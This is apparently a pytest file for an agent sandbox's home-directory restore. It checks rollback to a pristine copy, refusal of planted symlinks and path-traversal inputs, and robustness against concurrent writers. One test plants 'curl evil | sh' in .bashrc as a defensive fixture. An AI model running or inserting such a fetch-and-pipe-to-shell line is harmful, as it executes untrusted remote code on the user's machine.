"""Sandbox.restore_home: the paths a CLI rewrites by itself go back to pristine in place; a planted link is
refused (the session then restarts with a fresh home); any other change is still seen by home_changed."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from ec2_agent.sandbox import Sandbox, SandboxFault, SandboxPolicy


@pytest.fixture
def sandbox(tmp_path: Path) -> Sandbox:
    seed = tmp_path / "seed"
    (seed / ".gemini").mkdir(parents=True)
    (seed / ".gemini" / "settings.json").write_text('{"a": 1}')
    box = Sandbox(tmp_path / "slot", tmp_path / "pristine", SandboxPolicy(home_seed=seed))
    box.tree.mkdir(parents=True)
    box.seed_pristine()
    box.reset_home()
    return box


def test_restored_paths_match_the_pristine_copy_again(sandbox: Sandbox) -> None:
    chats = sandbox.home / ".gemini" / "tmp" / "chats"
    chats.mkdir(parents=True)
    (chats / "session.jsonl").write_text("the first job's conversation")
    (sandbox.home / ".gemini" / "settings.json").write_text('{"a": 2}')
    (sandbox.home / ".gemini" / "memory.md").write_text("remember: the first job")
    assert sandbox.home_changed()
    sandbox.restore_home([".gemini", ".qwen"])
    assert not sandbox.home_changed()
    assert (sandbox.home / ".gemini" / "settings.json").read_text() == '{"a": 1}'


def test_other_changes_are_still_seen(sandbox: Sandbox) -> None:
    (sandbox.home / ".bashrc").write_text("curl evil | sh")
    sandbox.restore_home([".gemini"])
    assert sandbox.home_changed()


def test_a_planted_link_is_refused_and_nothing_outside_is_touched(sandbox: Sandbox, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    (outside / "state").mkdir(parents=True)
    (outside / "state" / "keep.txt").write_text("not the CLI's")
    (sandbox.home / "cache").symlink_to(outside)
    with pytest.raises(SandboxFault, match="link"):
        sandbox.restore_home(["cache/state"])
    assert (outside / "state" / "keep.txt").read_text() == "not the CLI's"


@pytest.mark.parametrize("path", ["/etc", "../x", "a/../../b", ""])
def test_a_path_outside_the_home_is_refused(sandbox: Sandbox, path: str) -> None:
    with pytest.raises(SandboxFault, match="must be relative"):
        sandbox.restore_home([path])


def test_a_cli_still_writing_there_does_not_fail_the_restore(sandbox: Sandbox) -> None:
    """Seen with Codex 0.171.0: after start it unpacks its skills into ~/.codex/skills/.system in the
    background, and a removal in place lost the race (ENOTEMPTY: 1 job in 3 restarted the CLI). Here a real
    child process keeps creating files through a directory descriptor, as an unpacker does, while the
    restore runs."""
    target = sandbox.home / ".gemini" / "skills" / ".system"
    target.mkdir(parents=True)
    writer = subprocess.Popen(
        [
            sys.executable, "-c",
            "import os, sys, itertools\n"
            "fd = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)\n"
            "print('ready', flush=True)\n"
            "for n in itertools.count():\n"
            "    try:\n"
            "        os.close(os.open(f'f{n}', os.O_CREAT | os.O_WRONLY, dir_fd=fd))\n"
            "    except FileNotFoundError:\n"
            "        pass\n",
            str(target),
        ],
        stdout=subprocess.PIPE,
    )  # fmt: skip
    try:
        assert writer.stdout is not None and writer.stdout.readline() == b"ready\n"
        for _ in range(5):
            sandbox.restore_home([".gemini"])
            assert (sandbox.home / ".gemini" / "settings.json").read_text() == '{"a": 1}'
            assert not (sandbox.home / ".gemini" / "skills").exists()
    finally:
        writer.kill()
        writer.wait()


def _recreating_writer(directory: Path, seconds: float) -> subprocess.Popen[bytes]:
    """A real child process that makes `directory` again by path and writes into it for `seconds`."""
    code = (
        "import os, sys, time, itertools\n"
        "end = time.monotonic() + float(sys.argv[2])\n"
        "print('ready', flush=True)\n"
        "for n in itertools.count():\n"
        "    if time.monotonic() > end:\n"
        "        break\n"
        "    os.makedirs(sys.argv[1], exist_ok=True)\n"
        "    try:\n"
        "        open(os.path.join(sys.argv[1], f'f{n}'), 'w').close()\n"
        "    except FileNotFoundError:\n"
        "        pass\n"
    )
    argv = [sys.executable, "-c", code, str(directory), str(seconds)]
    writer = subprocess.Popen(argv, stdout=subprocess.PIPE)
    assert writer.stdout is not None and writer.stdout.readline() == b"ready\n"
    return writer


def test_a_path_the_cli_makes_again_meanwhile_never_fails_the_restore(sandbox: Sandbox) -> None:
    """A CLI that makes the path again by name while the restore runs (the copy then meets it: EEXIST) never
    turns a restore into an error other than SandboxFault's "keeps changing it"; once the CLI has settled, a
    restore leaves the home pristine. (Whether a restore that returned while the CLI still writes stays
    clean depends on scheduling: the agent's home_changed check before the next job covers that case.)"""
    writer = _recreating_writer(sandbox.home / ".gemini" / "sessions", 0.5)
    try:
        while writer.poll() is None:
            try:
                sandbox.restore_home([".gemini"])
            except SandboxFault as err:
                assert "keeps changing it" in str(err)
    finally:
        writer.kill()
        writer.wait()
    sandbox.restore_home([".gemini"])
    assert not sandbox.home_changed()
